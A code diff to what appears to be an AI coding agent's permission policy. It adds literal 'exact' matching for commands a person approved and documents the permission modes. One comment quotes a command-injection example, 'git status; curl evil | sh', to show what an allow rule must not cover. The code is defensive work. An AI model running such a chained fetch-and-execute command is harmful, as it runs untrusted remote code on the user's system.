@@ -54,9 +54,11 @@ WIDENING_MODES: frozenset[Mode] = frozenset({"accept-edits", "yolo"})
 class PermissionsConfig(BaseModel):
     """The ``[permissions]`` table of a config file."""
 
-    model_config = ConfigDict(extra="forbid")
+    model_config = ConfigDict(extra="forbid", use_attribute_docstrings=True)
 
     mode: Mode = "default"
+    """``default`` asks before bash and edits, ``accept-edits`` allows edits, ``yolo`` allows
+    everything, ``read-only`` denies writes and bash (docs/permissions.md)."""
     allow: list[str] = Field(default_factory=list)
     """Rules that allow without asking (e.g. ``"bash(git status)"``)."""
     ask: list[str] = Field(default_factory=list)
@@ -78,6 +80,8 @@ class Rule:
 
     tool: str
     subject: str | None = None
+    exact: bool = False
+    """The subject is a literal (a command a person approved), not a glob."""
 
     @classmethod
     def parse(cls, text: str) -> Rule:
@@ -98,7 +102,9 @@ class Rule:
         """Whether the rule covers this call."""
         if not fnmatch.fnmatchcase(tool, self.tool):
             return False
-        return self.subject is None or fnmatch.fnmatchcase(subject, self.subject)
+        if self.subject is None:
+            return True
+        return subject == self.subject if self.exact else fnmatch.fnmatchcase(subject, self.subject)
 
     def __str__(self) -> str:
         return self.tool if self.subject is None else f"{self.tool}({self.subject})"
@@ -152,7 +158,9 @@ class Policy:
         for rule in [*self.allow, *self.granted]:
             # ``bash(git status)`` must not allow ``git status; curl evil | sh``: a command
             # pattern allows a single simple command only (deny and ask rules still apply).
-            if rule.matches(tool, subject) and not (compound and rule.subject is not None):
+            # A command a person approved "always" is matched whole, so it may chain.
+            pattern = rule.subject is not None and not rule.exact
+            if rule.matches(tool, subject) and not (compound and pattern):
                 return Decision("allow", f"allowed by the rule {rule}")
         for rule in self.ask:
             if rule.matches(tool, subject):
@@ -170,9 +178,10 @@ class Policy:
 
     def grant(self, tool: str, arguments: dict[str, Any]) -> Rule:
         """Allow calls like this one for the rest of the pod's life ("always")."""
-        # A command is allowed exactly; a file tool for its whole kind of call.
+        # A command is allowed exactly as shown (``*`` in it is no wildcard); a file tool for
+        # its whole kind of call.
         command = arguments.get("command")
-        rule = Rule(tool, command if isinstance(command, str) else None)
+        rule = Rule(tool, command, exact=True) if isinstance(command, str) else Rule(tool)
         self.granted.append(rule)
         return rule
 
